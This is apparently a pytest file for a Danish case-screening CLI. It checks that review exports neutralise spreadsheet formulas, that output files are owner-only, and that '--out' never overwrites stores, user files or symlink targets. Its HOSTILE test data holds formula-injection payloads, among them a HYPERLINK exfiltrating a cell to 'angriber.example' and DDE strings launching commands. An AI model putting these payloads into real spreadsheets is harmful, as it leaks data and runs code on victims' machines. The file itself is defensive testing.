"""What afdaek writes (issue 15, "Exports and files"): review sheets that cannot run formulas,
files only their owner reads, and `--out` that never deletes or overwrites the store or a file
afdaek did not write."""

from __future__ import annotations

import csv
import os
import sqlite3
import stat
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from cli import app
from screening.review import ReviewItem, export_reviews
from store import documents as docstore
from store import open_store
from store import screening as sstore
from store.outputs import MANIFEST, OutputError, prepare_demo_folder, write_output

HOSTILE = {
    "=": '=HYPERLINK("http://angriber.example/?d="&A1,"Klik")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture(autouse=True)
def _umask():
    old = os.umask(0o022)  # what most systems use: files are world-readable unless made 0600
    yield
    os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _store_with_findings(db: Path) -> list[int]:
    """A store with one case whose findings explain themselves with formula-like text."""
    with open_store(db) as store:
        run_id = docstore.start_run(store, "screen")
        sstore.upsert_case(store, {"id": "S1", "ydelse": "kontanthjælp"})
        sstore.store_findings(
            store,
            run_id,
            "S1",
            [
                {"rule": f"R{i}", "verdict": "mangel", "explanation": text, "events": []}
                for i, text in enumerate(HOSTILE.values())
            ],
        )
        return [r[0] for r in store.db.execute("SELECT id FROM findings ORDER BY id")]


def _run(db: Path, *args: str | Path):
    return CliRunner().invoke(app, ["--db", str(db), *map(str, args)])


# --------------------------------------------------------------------------- review exports


def _items() -> list[ReviewItem]:
    return [ReviewItem(i, "S1", "V1", "mangel", text, (), None) for i, text in enumerate(HOSTILE.values(), 1)]


def test_csv_export_neutralises_formulas(tmp_path):
    path = export_reviews(_items(), tmp_path / "gennemgang.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    explanations = [r[4] for r in rows[1:]]
    assert explanations == ["'" + text for text in HOSTILE.values()]
    assert not any(cell.startswith(tuple(HOSTILE)) for row in rows for cell in row)


def test_xlsx_export_neutralises_formulas(tmp_path):
    path = export_reviews(_items(), tmp_path / "gennemgang.xlsx")
    ws = openpyxl.load_workbook(path).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    explanations = [ws.cell(row=r, column=5).value for r in range(2, ws.max_row + 1)]
    assert explanations == ["'" + text for text in HOSTILE.values()]
    assert not any(str(c.value).startswith(tuple(HOSTILE)) for c in cells)


def test_exports_are_created_owner_only(tmp_path):
    for name in ("gennemgang.csv", "gennemgang.xlsx"):
        path = export_reviews(_items(), tmp_path / name)
        assert _mode(path) == 0o600, name


def test_import_takes_the_neutralising_apostrophe_off_again(tmp_path):
    db = tmp_path / "r.db"
    ids = _store_with_findings(db)
    sheet = tmp_path / "gennemgang.csv"
    assert _run(db, "screen", "review", "--export", sheet).exit_code == 0
    with sheet.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    # Reviewer 1 writes "-ikke relevant" straight in; reviewer 2's spreadsheet kept the
    # apostrophe a spreadsheet puts before text that looks like a formula.
    rows[1][6:10] = ["afvis", "", "-ikke relevant", "ab"]
    rows[2][6:10] = ["bekræft", "", "'=tjek igen", "cd"]
    filled = tmp_path / "udfyldt.csv"
    with filled.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(rows)
    result = _run(db, "screen", "review", "--import", filled)
    assert result.exit_code == 0, result.output
    with sqlite3.connect(db) as conn:
        comments = conn.execute("SELECT finding_id, comment FROM reviews ORDER BY id").fetchall()
    assert comments == [(ids[0], "-ikke relevant"), (ids[1], "=tjek igen")]


def test_export_never_replaces_a_filled_in_sheet(tmp_path):
    db = tmp_path / "r.db"
    _store_with_findings(db)
    sheet = tmp_path / "gennemgang.xlsx"
    assert _run(db, "screen", "review", "--export", sheet).exit_code == 0
    assert _run(db, "screen", "review", "--export", sheet).exit_code == 0  # unchanged: fine
    wb = openpyxl.load_workbook(sheet)
    wb.active["G2"] = "bekræft"
    wb.save(sheet)
    before = sheet.read_bytes()
    result = _run(db, "screen", "review", "--export", sheet)
    assert result.exit_code == 1
    assert result.stderr == (
        f"Fejl: {sheet}: filen findes allerede og er ikke skrevet af afdaek, eller den er ændret "
        "siden; afdaek overskriver den ikke – flyt eller omdøb den, eller vælg et andet filnavn\n"
    )
    assert sheet.read_bytes() == before


# --------------------------------------------------------------------------- --out


@pytest.fixture
def real_store(tmp_path) -> Path:
    """A folder with a real store in it (one case), as a user has."""
    folder = tmp_path / "arbejde"
    folder.mkdir()
    db = folder / "afdaek.db"
    with open_store(db) as store:
        sstore.upsert_case(store, {"id": "RIGTIG-SAG"})
    return db


def _cases(db: Path) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT id FROM cases").fetchall()


def test_demo_out_dot_refuses_a_folder_with_a_real_store(real_store, monkeypatch):
    monkeypatch.chdir(real_store.parent)
    before = real_store.read_bytes()
    result = CliRunner().invoke(app, ["demo", "--out", "."])
    assert result.exit_code == 1
    assert result.stderr == (
        "Fejl: .: mappen er ikke tom og er ikke lavet af 'afdaek demo'; demoen skriver kun i en "
        "ny eller tom mappe – angiv en anden mappe med --out\n"
    )
    assert real_store.read_bytes() == before and _cases(real_store) == [("RIGTIG-SAG",)]


def test_demo_never_removes_a_store_it_did_not_make(tmp_path, real_store):
    folder = tmp_path / "demo-out"
    assert prepare_demo_folder(folder) == folder / "afdaek.db"  # a new folder, now marked
    with open_store(folder / "afdaek.db") as store:
        store.set_meta("demo", "1")
    (folder / "rapport.docx").write_bytes(b"x")
    assert prepare_demo_folder(folder) == folder / "afdaek.db"  # its own store: removed
    assert not (folder / "afdaek.db").exists() and (folder / "rapport.docx").exists()
    real_store.replace(folder / "afdaek.db")  # a real store put in the demo's folder
    with pytest.raises(OutputError) as info:
        prepare_demo_folder(folder)
    assert str(info.value) == (
        f"{folder}/afdaek.db: er ikke demoens database; demoen sletter "
        "den ikke – angiv en anden mappe med --out"
    )
    assert _cases(folder / "afdaek.db") == [("RIGTIG-SAG",)]


@pytest.mark.parametrize(
    "target, problem",
    [
        ("store", "filen skal have endelsen .docx; vælg et andet filnavn"),
        ("link", "er en genvej (symbolsk link); afdaek skriver ikke gennem genveje – angiv selve filen"),
    ],
    ids=["the store itself", "a link to the store"],
)
def test_summary_docx_never_writes_over_the_store(real_store, target, problem):
    out = real_store
    if target == "link":
        out = real_store.with_name("screening.docx")
        out.symlink_to(real_store)
    before = real_store.read_bytes()
    result = _run(real_store, "screen", "summary", "--format", "docx", "--out", out)
    assert result.exit_code == 1
    assert result.stderr == f"Fejl: {out}: {problem}\n"
    assert real_store.read_bytes() == before


def test_store_renamed_docx_is_still_refused(real_store):
    disguised = real_store.with_name("rapport.docx")
    disguised.write_bytes(real_store.read_bytes())
    result = _run(real_store, "screen", "summary", "--format", "docx", "--out", disguised)
    assert result.exit_code == 1
    assert result.stderr == (
        f"Fejl: {disguised}: er en database (måske afdaek's egen); afdaek "
        "skriver ikke oven i den – vælg et andet filnavn\n"
    )


def _refused(path: Path) -> str:
    return (
        f"Fejl: {path}: filen findes allerede og er ikke skrevet af afdaek, eller den er "
        "ændret siden; afdaek overskriver den ikke – flyt eller omdøb den, eller vælg et "
        "andet filnavn\n"
    )


def test_every_out_option_refuses_a_users_own_file(tmp_path, real_store):
    own = b"PK\x03\x04 en brugers eget dokument"
    folder = tmp_path / "rapporter"
    folder.mkdir()
    targets = {
        "report": folder / "rapport_drift.docx",
        "summary": tmp_path / "min-opsummering.docx",
        "letters": tmp_path / "mine-breve.docx",
        "export": tmp_path / "mit-regneark.xlsx",
    }
    for path in targets.values():
        path.write_bytes(own)
    letter = tmp_path / "brev.txt"
    letter.write_text("Kære borger\n\nDu er indkaldt til en samtale.\n", encoding="utf-8")
    runs = {
        "report": _run(real_store, "report", "drift", "--out", folder),
        "summary": _run(real_store, "screen", "summary", "--format", "docx", "--out", targets["summary"]),
        "letters": _run(
            real_store, "letters", "check", letter, "--format", "docx", "--out", targets["letters"]
        ),
        "export": _run(real_store, "screen", "review", "--export", targets["export"]),
    }
    for name, result in runs.items():
        assert result.exit_code == 1, (name, result.output)
        assert result.stderr == _refused(targets[name]), name
        assert targets[name].read_bytes() == own, name


def test_reports_are_owner_only_and_rewritten_while_unchanged(tmp_path, real_store):
    folder = tmp_path / "rapporter"
    first = _run(real_store, "report", "drift", "--out", folder)
    assert first.exit_code == 0, first.output
    report = folder / "rapport_drift.docx"
    assert _mode(report) == 0o600 and _mode(folder / MANIFEST) == 0o600
    assert _run(real_store, "report", "drift", "--out", folder).exit_code == 0
    report.write_bytes(report.read_bytes() + b"\x00")  # edited since
    result = _run(real_store, "report", "drift", "--out", folder)
    assert result.exit_code == 1
    assert result.stderr == _refused(report)
    assert not [
        p for p in folder.iterdir() if p.name.endswith(".tmp") or p.name.startswith(".rapport")
    ]  # no temporary file left behind


def test_templates_export_does_not_follow_a_dangling_link(tmp_path):
    folder = tmp_path / "skabeloner"
    folder.mkdir()
    victim = tmp_path / "ikke-her.docx"
    (folder / "rapport_drift.docx").symlink_to(victim)
    result = CliRunner().invoke(app, ["templates", "export", str(folder)])
    assert result.exit_code == 0, result.output
    assert not victim.exists()
    assert (folder / "rapport_sanktioner.docx").is_file()


def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(tmp_path):
    path = write_output(tmp_path / "rapport.docx", lambda tmp: tmp.write_bytes(b"god"))

    def broken(tmp: Path) -> None:
        tmp.write_bytes(b"halv")
        raise OSError(28, "No space left on device")

    with pytest.raises(OutputError) as info:
        write_output(path, broken)
    assert str(info.value) == f"{path}: filen kan ikke skrives (disken er fuld)"
    assert path.read_bytes() == b"god"
    assert sorted(p.name for p in tmp_path.iterdir()) == [MANIFEST, "rapport.docx"]
